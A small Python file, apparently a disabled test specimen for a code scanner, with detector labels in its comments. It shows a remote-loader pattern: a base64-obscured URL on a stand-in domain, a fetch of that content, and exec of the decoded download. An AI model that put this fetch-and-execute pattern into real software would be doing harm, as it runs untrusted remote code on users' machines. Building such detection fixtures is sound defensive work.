raise SystemExit("specimen: not to be run")
import base64
import requests
place = base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmNvbS9hLnB5").decode()
kept = requests.get(place).text  # match: hidden-address  # match: network-at-import
exec(base64.b64decode(kept))  # match: execution-of-downloaded
